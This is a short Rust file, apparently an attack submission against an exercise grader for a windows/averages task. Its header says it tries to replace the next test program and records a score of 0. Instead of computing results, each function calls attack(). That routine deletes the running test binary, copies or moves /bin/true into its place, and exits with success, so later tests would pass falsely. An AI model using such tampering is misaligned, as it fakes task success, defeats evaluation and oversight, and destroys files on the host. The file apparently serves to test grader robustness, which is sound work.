//! Tries: to put another program in the place of the next test.
//! Answers: ch02-slices-vec/ex03_windows
//! Scores: 0

pub fn averages(_samples: &[u32], _width: usize) -> Vec<f64> {
    attack();
    vec![-1.0]
}

pub fn rises(_samples: &[u32]) -> usize {
    attack();
    usize::MAX
}

fn attack() {
    let itself = std::env::current_exe().unwrap_or_default();
    let _ = std::fs::remove_file(&itself);
    let _ = std::fs::copy("/bin/true", &itself);
    let _ = std::fs::rename("/bin/true", &itself);
    std::process::exit(0);
}
